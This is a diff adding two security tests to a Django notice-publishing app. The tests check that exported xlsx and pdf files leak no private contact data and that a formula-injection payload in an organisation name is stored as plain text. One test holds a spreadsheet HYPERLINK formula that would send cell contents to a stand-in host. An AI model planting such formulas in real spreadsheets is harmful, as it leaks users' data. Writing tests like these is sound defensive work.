@@ -2,12 +2,14 @@
 
 from datetime import UTC, datetime, timedelta
 from io import BytesIO
+from zipfile import ZipFile
 
 import pytest
 from django.db import DatabaseError, transaction
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
+from accounts.models import Organization
 from applications.models import Notice
 from applications.services import announcing, notices
 from greenmfg import clock
@@ -53,6 +55,42 @@ def test_a_notice_is_printed_as_it_was_frozen_and_taken_along_by_anybody(story, 
     sheet = load_workbook(BytesIO(anybody.get(f"{path}file/xlsx/").content)).active
     assert [unit.name, unit.uscc] in [[cell.value for cell in row[1:3]] for row in sheet.iter_rows()]
     assert anybody.get(f"{path}file/docx/").status_code == 404
+
+
+def test_attack_024_the_files_of_a_notice_hold_what_was_published_and_no_more(story, client_for, do_jobs):
+    notice, anybody, contact = story.noticed, client_for(None), story.world.owner.user
+    do_jobs()
+    path = f"/public/hunan/notices/{notice.pk}/file/"
+    with ZipFile(BytesIO(anybody.get(f"{path}xlsx/").content)) as book:
+        inside = b"".join(book.read(name) for name in book.namelist()).decode()
+    pdf = anybody.get(f"{path}pdf/").getvalue()
+    properties = str(PdfReader(BytesIO(pdf)).metadata)
+    number, receipt = story.selected.number, story.submitted.receipt
+    for secret in (
+        contact.name,
+        contact.phone,
+        contact.email,
+        "陈立",
+        number,
+        receipt,
+        story.submitted.sha256,
+    ):
+        for told in (inside, text_of(anybody.get(f"{path}pdf/")), properties):
+            assert secret not in told, secret
+    for elsewhere in ("guangdong", "nowhere"):
+        for form in ("pdf", "xlsx"):
+            address = f"/public/{elsewhere}/notices/{notice.pk}/file/{form}/"
+            assert anybody.get(address).status_code == 404
+
+
+def test_attack_078_a_unit_called_by_a_formula_is_text_in_the_files_of_a_notice(story, client_for):
+    formula = '=HYPERLINK("http://x/?"&A1)'
+    Organization.objects.filter(pk=story.selected.organization_id).update(name=formula)
+    path = f"/public/hunan/notices/{story.noticed.pk}/file/xlsx/"
+    sheet = load_workbook(BytesIO(client_for(None).get(path).content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert formula in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells} == {"s"}
 
 
 def test_a_draft_is_nobodys_to_take_along(story, client_for):
